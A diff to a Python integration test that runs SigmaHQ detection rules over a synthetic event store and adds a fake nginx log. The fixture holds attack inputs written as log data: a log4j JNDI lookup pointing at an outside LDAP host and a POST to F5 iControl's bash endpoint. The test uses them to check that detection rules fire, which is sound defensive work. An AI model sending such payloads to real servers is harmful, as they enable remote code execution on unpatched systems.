@@ -7,15 +7,19 @@ A rule counts as *mapped* unless its only problem is a log source the pipeline d
 95% must load, convert and run against a small real store; the rest are listed with the reason.
 The Linux rules (rules/linux, rules-threat-hunting/linux: process_creation, file_event,
 network_connection, auditd and the builtin service logs) are counted on their own: at least 95%
-of all of them must run on the host tables.
+of all of them must run on the host tables. The web server's rules (category webserver, Apache's
+and nginx's logs) read the webserver table (tests/integration/test_webserver_log.py counts them
+over ministry-breach).
 """
 from __future__ import annotations
 
+import random
 from collections import Counter
 from pathlib import Path
 
 from range.detect import load_rules, rule_files, run
 from range.events import EventStore
+from range.traffic import HostLog
 
 ROOT = Path(__file__).resolve().parents[2]
 CORPUS = ROOT.parent / "shared" / "corpus" / "sigmahq"
@@ -52,8 +56,23 @@ def corpus_store(path: Path) -> Path:
     s.add("telnet", [{"ts": T0 + 10, **ident(32, dp=23), "direction": "orig", "line": "ls"}])
     s.add("arp", [{"ts": T0 + 11, "operation": "request", "id.orig_h": "10.1.0.1", "id.resp_h": "10.1.0.2"}])
     host_records(s)
+    web_server_log(s)
     s.close()
     return path
+
+
+def web_server_log(s: EventStore) -> None:
+    """The intranet's nginx: a page, a log4j probe in the query, an F5 iControl bash call (the path
+    SigmaHQ writes under cs-uri-query) and a worker's core dump in the error log."""
+    log = HostLog(random.Random(1))
+    ua = "Mozilla/5.0 (Windows NT 10.0; Win64; x64)"
+    log.access(T0 + 4, "intranet", "10.1.0.20", "GET", "/index.html", 200, 5120, user_agent=ua, vhost="intranet")
+    log.access(T0 + 5, "intranet", "10.1.0.66", "GET", "/search?q=${jndi:ldap://198.51.100.7/a}", 404, 153,
+               user_agent=ua, vhost="intranet")
+    log.access(T0 + 6, "intranet", "10.1.0.67", "POST", "/mgmt/tm/util/bash", 200, 88, user_agent="curl/8.5.0")
+    log.web_error(T0 + 7, "intranet", "alert", 811, "worker process 812 exited on signal 6 (core dumped)")
+    for table, rec in log.records:
+        s.add(table, [rec])
 
 
 def host_records(s: EventStore) -> None:
@@ -153,6 +172,12 @@ def test_sigmahq_corpus_runs(tmp_path, capsys):
 
     fired = {a["rule_id"] for a in alerts}
     assert "5ea8faa8-db8b-45be-89b0-151b84c82702" in fired   # log4j JNDI in access logs (keywords)
+    # the web server's own log: log4j's probe by its client, the F5 path under cs-uri-query, the core dump
+    (log4j,) = [a for a in alerts if a["rule_id"] == "5ea8faa8-db8b-45be-89b0-151b84c82702"]
+    assert log4j["group"] == {"c-ip": "10.1.0.66"} and [e["_path"] for e in log4j["events"]] == ["webserver"]
+    assert "85254a62-22be-4239-b79c-2ec17e566c37" in fired
+    (dump,) = [a for a in alerts if a["rule_id"] == "59ec40bb-322e-40ab-808d-84fa690d7e56"]
+    assert [e["log"] for e in dump["events"]] == ["error"]
     assert "c64c5175-5189-431b-a55e-6d9882158251" in fired   # Telegram API lookup
     assert "ede05abc-2c9e-4624-9944-9ff17fdc0bf5" in fired   # Zeek DNS Z bit set
     (webdav,) = [a for a in alerts if a["rule_id"] == "705072a5-bb6f-4ced-95b6-ecfa6602090b"]
